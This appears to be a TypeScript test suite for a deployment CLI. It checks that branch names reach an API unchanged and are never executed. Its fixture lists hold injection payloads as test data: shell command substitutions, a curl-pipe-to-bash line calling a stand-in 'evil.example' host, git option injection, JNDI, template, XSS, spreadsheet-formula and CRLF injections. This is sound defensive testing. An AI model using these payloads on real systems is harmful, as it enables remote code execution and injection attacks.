import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { type FakeApi, startFakeApi } from './fake-api';
import { type GitFixture, gitFixture } from './git-fixture';
import { runCli } from './run-cli';
import { COMMIT, accepted, environment } from './views';

/** Names that git allows: edges of the naming rules, reserved words, shell and option injections, template and markup. */
const LEGAL = [
  ...['new_cool_page', 'New_Cool_Page', 'new/cool/page', 'new.cool.page', 'new--cool--page', 'feature/\u212a8s'],
  ...[
    'caf\u00e9',
    'cafe\u0301',
    '\u0430dmin',
    '日本語',
    '🚀',
    '12345',
    '1-fix',
    'xn--80ak6aa92e',
    'ab--cd',
    'b'.repeat(200),
  ],
  ...[
    'feature/very-long-name-for-checkout-a',
    'abcdefghijklmnopqrstuvwxyz1-/-zzz',
    'feat\u200bure/x',
    'feat/\u202egnp.exe',
  ],
  ...['a\u00a0b', 'a\u2028b', '\u0085', 'production', 'shared-staging', 'main', 'www', '_acme-challenge', 'HEAD', '@x'],
  ...[
    'refs/heads/main',
    '0123456789abcdef0123456789abcdef01234567',
    '$(id)',
    '`id`',
    ';reboot;',
    'a|id',
    'a&&id',
    "a';DROP",
  ],
  ...[
    '$(touch${IFS}canary)',
    '`touch${IFS}canary`',
    ';touch${IFS}canary;',
    'zzz";touch${IFS}canary;#',
    'feature/${HOME}',
    '!!',
  ],
  ...[
    'a,b',
    '$({curl,-sSfL,evil.example/x.sh}${IFS}|${IFS}bash)',
    '-rf',
    '--upload-pack=touch${IFS}canary',
    '---',
    '--help',
  ],
  ...[
    "{{constructor.constructor('return(process)')()}}",
    "States.Format('{}',$$.Execution.Input)",
    '$.x',
    '<script>alert(1)</script>',
  ],
  ...[
    '{%$states.context%}',
    '<img/src=x/onerror=alert(1)>',
    '%00',
    'x%0aid',
    'a=b',
    'a&b=c',
    '__proto__',
    'a+b',
    'a#b',
  ],
];

/** Names that git refuses; the API has to say so, hence they must reach it as they are. */
const ILLEGAL = [
  ...['', '*', '-', '.', '..', 'a.', 'a/', '/a', 'a//b', 'a/.b', 'x.lock', 'a\nb', 'a\rb', 'a\tb', 'a b', '{{7*7}}'],
  ...[
    '${AWS::AccountId}',
    '{{resolve:secretsmanager:prod/db:SecretString:password}}',
    '](javascript:alert(1))',
    '@SUM(1+1)*cmd|calc',
  ],
  ...[
    '${jndi:ldap://evil/x}',
    '=HYPERLINK("http://evil","x")',
    '\u001b[2J',
    '\u001b]8;;http://evil\u0007',
    '%0d%0aSet-Cookie:x',
  ],
  ...['\ud800', '\udfff', 'main~1', 'main^{tree}', 'main@{1}'],
];

describe('branch names are data', () => {
  let api: FakeApi;
  let repository: GitFixture;
  beforeAll(async () => {
    repository = gitFixture();
    api = await startFakeApi({
      'POST /environments': { status: 202, body: accepted() },
      'POST /deployments': { status: 204 },
      'GET /environments': { body: { environments: [environment()] } },
      'DELETE /environments/new-cool-page': { status: 202, body: accepted({ status: 'destroying' }) },
    });
  });
  afterAll(async () => {
    repository.remove();
    await api.close();
  });
  beforeEach(() => api.requests.splice(0));
  const cli = (...argv: string[]) => runCli(argv, { url: api.url, cwd: repository.folder });

  it.each([...LEGAL, ...ILLEGAL])('%j reaches the API exactly, from create and deploy', async (branch) => {
    expect((await cli('create', '--commit', COMMIT, '--', branch)).code).toBe(0);
    expect((await cli('deploy', '--commit', COMMIT, '--', branch)).code).toBe(0);
    const body = { branch, commit: COMMIT };
    expect(api.requests.map((request) => request.body)).toEqual([body, body]);
  });

  it.each([...LEGAL, ...ILLEGAL].filter((branch) => branch.isWellFormed()))(
    '%j reaches the API exactly as the branch to look up, and never as a path',
    async (branch) => {
      expect((await cli('destroy', '--yes', '--', branch)).code).toBe(0);
      const lookUps = api.requests.filter(({ path }) => path === '/environments');
      expect(lookUps.map(({ query }) => query.get('branch'))).toEqual([branch]);
      for (const { path } of api.requests) expect(path).toMatch(/^\/environments(\/[a-z0-9][a-z0-9-]*)?$/);
    },
  );

  it.each(LEGAL)('%j is found in the repository, checked out or named, and nothing is executed', async (branch) => {
    repository.git('update-ref', `refs/heads/${branch}`, repository.head);
    const before = repository.git('symbolic-ref', 'HEAD');
    expect((await cli('create', '--', branch)).code).toBe(0);
    repository.git('symbolic-ref', 'HEAD', `refs/heads/${branch}`);
    expect((await cli('create')).code).toBe(0);
    repository.git('symbolic-ref', 'HEAD', before);
    repository.git('update-ref', '-d', `refs/heads/${branch}`);
    const body = { branch, commit: repository.head };
    expect(api.requests.map((request) => request.body)).toEqual([body, body]);
    expect(existsSync(join(repository.folder, 'canary'))).toBe(false);
    expect(readdirSync(repository.folder)).toEqual(['.git']);
  });

  it.each(ILLEGAL)('%j is not found in the repository, and the API is not asked', async (branch) => {
    expect((await cli('create', '--', branch)).code).toBe(3);
    expect(api.requests).toEqual([]);
  });
});
